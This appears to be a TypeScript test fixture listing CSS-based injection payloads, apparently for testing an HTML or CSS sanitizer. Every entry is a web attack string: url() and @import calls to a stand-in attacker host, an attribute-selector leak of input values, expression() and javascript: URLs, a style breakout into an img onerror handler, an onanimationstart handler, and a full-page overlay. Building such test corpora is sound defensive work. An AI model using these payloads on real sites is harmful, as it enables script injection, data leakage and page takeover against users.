import { enemy, type Recipe, zap } from "./payload.ts";

/** Styles that fetch, run code, or cover the page. */
export const styles: readonly Recipe[] = [
  (mark) => `<style>body{background:url(${enemy(mark)})}</style>`,
  (mark) => `<style>@import "${enemy(mark)}";</style>`,
  (mark) => `<style>@import url(//zap.test/${mark});</style>`,
  (mark) => `<style>@font-face{font-family:z;src:url(${enemy(mark)})}*{font-family:z}</style>`,
  (mark) => `<style>*{cursor:url(${enemy(mark)}),auto}</style>`,
  (mark) => `<style>li{list-style:url(${enemy(mark)})}</style><li>${mark}`,
  (mark) => `<style>*{background:image-set("${enemy(mark)}" 1x)}</style>`,
  (mark) => `<style>p::before{content:url(${enemy(mark)})}</style><p>${mark}`,
  (mark) => `<style>input[value^=a]{background:url(${enemy(mark)})}</style><input value=a>`,
  (mark) => `<style>@namespace url(${enemy(mark)});*{mask:url(${enemy(mark)}#m)}</style>`,
  (mark) => `<p style="background:url(${enemy(mark)})">${mark}`,
  (mark) => `<p style='background:url("${enemy(mark)}")'>${mark}`,
  (mark) => `<p style="behavior:url(${enemy(mark)});-moz-binding:url(${enemy(mark)})">${mark}`,
  (mark) => `<p style="width:expression(${zap(mark)})">${mark}`,
  (mark) => `<p style="background:url(javascript:${zap(mark)})">${mark}`,
  (mark) => `<p style="border-image:url(${enemy(mark)})">${mark}`,
  (mark) => `<p style="filter:url(${enemy(mark)}#f)">${mark}`,
  (mark) => `<p style="position:fixed;inset:0;z-index:9999;background:#fff">${mark}`,
  (mark) => `red;background:url(${enemy(mark)})`,
  (mark) => `}body{background:url(${enemy(mark)})}/*`,
  (mark) => `#${mark};--mixed:url(${enemy(mark)})`,
  (mark) => `</style><img src=x onerror=${zap(mark)}>`,
  (mark) => `<link rel=stylesheet href="data:text/css,*{background:url(${enemy(mark)})}">`,
  (mark) => `<xss class=animate-spin style=animation-name:spin onanimationstart=${zap(mark)}>${mark}`,
];
